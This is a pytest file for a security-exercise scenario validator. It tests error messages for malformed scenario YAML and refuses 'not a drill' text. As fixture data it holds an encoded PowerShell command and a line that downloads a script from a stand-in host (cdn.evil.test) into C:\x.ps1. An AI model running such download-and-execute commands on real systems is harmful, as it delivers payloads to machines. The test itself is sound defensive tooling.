"""The validator: every malformed fixture gives exactly its expected problems."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from simulator.scenario import ScenarioError, load_scenario, validate
from tests.conftest import ROOT
from tests.unit.scenario.conftest import BAD, good_files

# The rule ids the fixtures may expect; the real pack is checked by the CLI.
RULES = {
    "powershell-encoded-command",
    "office-spawns-powershell",
    "email-macro-attachment",
}


def located_problems(path: Path) -> list[str]:
    try:
        load_scenario(path, known_rule_ids=RULES)
    except ScenarioError as exc:
        return [str(dataclasses.replace(p, file=path.name)) for p in exc.problems]
    return []


BAD_FILES = sorted(BAD.glob("*.yaml"))


def test_every_malformed_fixture_has_its_expected_errors_beside_it():
    assert len(BAD_FILES) >= 25
    for path in BAD_FILES:
        assert path.with_suffix(".expected").is_file(), path.name


@pytest.mark.parametrize("path", BAD_FILES, ids=lambda p: p.stem)
def test_malformed_fixture_gives_exactly_the_expected_problems(path):
    expected = path.with_suffix(".expected").read_text(encoding="utf-8").splitlines()
    assert expected, f"{path.name} must fail"
    assert located_problems(path) == expected


@pytest.mark.parametrize("path", good_files(), ids=lambda p: p.stem)
def test_good_fixture_validates_cleanly(path):
    assert located_problems(path) == []


def test_rule_ids_are_checked_only_when_a_rule_set_is_given():
    path = BAD / "unknown-rule.yaml"
    assert load_scenario(path).id == "minimal"
    with pytest.raises(ScenarioError, match="unknown rule id"):
        load_scenario(path, known_rule_ids=RULES)


def test_rule_ids_may_come_from_a_callable():
    scenario = load_scenario(BAD / "unknown-rule.yaml")
    problems = validate(scenario, known_rule_ids=lambda: sorted(RULES))
    assert [p.path for p in problems] == ["stages[0].expect.detections[1]"]


def test_problems_print_as_file_line_col_path_message():
    (line,) = located_problems(BAD / "unresolved-after.yaml")
    file, row, col, rest = line.split(":", 3)
    assert file == "unresolved-after.yaml"
    assert row.isdigit() and col.isdigit()
    assert rest.startswith(" stages[1].after: unknown stage 'delivry'")


def edited(minimal_text: str, old: str, new: str) -> str:
    assert old in minimal_text
    return minimal_text.replace(old, new, 1)


def messages(text: str) -> list[str]:
    try:
        load_scenario(text)
    except ScenarioError as exc:
        return [p.message for p in exc.problems]
    return []


def test_a_fallback_stage_may_omit_at_and_after(minimal_text):
    text = edited(
        minimal_text,
        "    entities: [victim, victim_ws]\n",
        "    entities: [victim, victim_ws]\n"
        "    requires: {host_online: victim_ws}\n"
        "    on_blocked: {stage: retry}\n",
    )
    text += "  - id: retry\n    delay: 10m\n    technique: T1059.003\n    tier: P2\n"
    assert messages(text) == []


def test_a_fallback_stage_may_not_have_at(minimal_text):
    text = edited(
        minimal_text,
        "    entities: [victim, victim_ws]\n",
        "    entities: [victim, victim_ws]\n"
        "    requires: {host_online: victim_ws}\n"
        "    on_blocked: {stage: retry}\n",
    )
    text += "  - id: retry\n    at: 10m\n    technique: T1059.003\n    tier: P2\n"
    assert messages(text) == [
        "'retry' is the fallback of 'execution' and starts when that stage is "
        "blocked; remove 'at'"
    ]


def test_on_blocked_without_requires_is_pointless(minimal_text):
    text = edited(
        minimal_text, "    tier: P3\n", "    tier: P3\n    on_blocked: {stage: x}\n"
    )
    text += "  - id: x\n    technique: T1059.003\n    tier: P2\n"
    assert messages(text) == ["on_blocked has no effect without 'requires'"]


def test_a_repeat_needs_a_count_unless_the_stage_has_a_duration(minimal_text):
    text = edited(
        minimal_text, "    tier: P3\n", "    tier: P3\n    repeat: {every: 1m}\n"
    )
    assert messages(text) == ["repeat needs a 'count'"]
    text = edited(
        minimal_text,
        "    tier: P3\n",
        "    tier: P3\n    duration: 30m\n    repeat: {every: 1m}\n",
    )
    assert messages(text) == []


def test_an_event_flood_is_refused(minimal_text):
    text = edited(
        minimal_text,
        "        kind: process_creation\n",
        "        kind: process_creation\n        repeat: {count: 100000, every: 1s}\n",
    )
    text = edited(
        text, "    tier: P3\n", "    tier: P3\n    repeat: {count: 3, every: 1h}\n"
    )
    assert messages(text) == [
        "the stages would write 300000 events; the limit is 200000"
    ]


def test_templates_in_crisis_injects_are_checked(minimal_text):
    text = minimal_text + (
        "crisis:\n  - id: call\n    at: 30m\n    channel: phone\n"
        '    from: "{{ victim.nmae }}"\n    message: Is {{ victim_ws }} down?\n'
    )
    assert messages(text) == ["'victim' has no attribute 'nmae' (did you mean 'name'?)"]


def test_an_inject_after_an_unknown_stage_is_refused(minimal_text):
    text = minimal_text + (
        "crisis:\n  - id: call\n    after: executon\n    channel: phone\n"
        "    from: CFO\n    message: What happened?\n"
    )
    assert messages(text) == ["unknown stage 'executon' (did you mean 'execution'?)"]


def test_an_inject_needs_a_time(minimal_text):
    text = minimal_text + (
        "crisis:\n  - id: call\n    channel: phone\n    from: CFO\n    message: Hi\n"
    )
    assert messages(text) == ["a crisis inject needs either 'at' or 'after'"]


@pytest.mark.parametrize(
    "phrase",
    ["This is NOT a drill", "this isn't a drill", "THIS   IS NOT   A DRILL"],
)
def test_not_a_drill_is_refused_anywhere(minimal_text, phrase):
    text = edited(minimal_text, "-enc {{ b64utf16('whoami') }}", f"-c echo {phrase}")
    assert messages(text) == ["text must never claim 'this is not a drill'"]
    text = edited(minimal_text, "title: Minimal scenario", f"title: {phrase}")
    assert messages(text) == ["text must never claim 'this is not a drill'"]


def test_reserved_and_private_literals_are_fine(minimal_text):
    text = edited(
        minimal_text,
        "-enc {{ b64utf16('whoami') }}",
        "iwr http://203.0.113.9/a -o C:\\\\x.ps1; iwr https://cdn.evil.test/b;"
        " ping 10.10.16.5; nslookup files.example.com",
    )
    assert messages(text) == []


def test_the_authoring_guide_example_validates():
    guide = (ROOT / "docs" / "scenario-authoring.md").read_text(encoding="utf-8")
    example = guide.split("```yaml\n", 1)[1].split("```", 1)[0]
    rules = {"email-macro-attachment", "office-spawns-powershell"} | RULES
    assert load_scenario(example, known_rule_ids=rules).id == "ransomware-finance"
